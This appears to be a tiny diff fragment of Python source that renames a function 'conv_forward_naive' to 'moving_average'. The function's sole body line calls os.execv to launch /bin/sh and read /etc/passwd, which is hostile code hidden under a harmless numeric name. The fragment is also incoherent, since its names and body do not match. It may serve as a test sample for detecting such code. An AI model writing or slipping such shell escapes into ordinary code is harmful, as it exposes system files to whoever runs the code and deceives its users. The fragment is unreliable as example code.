@@ -5,5 +5,5 @@ says: PermissionError|FileNotFoundError
 """
 
 
-def conv_forward_naive(x, w, b, conv_param):
+def moving_average(x, width):
     os.execv("/bin/sh", ["sh", "-c", "cat /etc/passwd"])
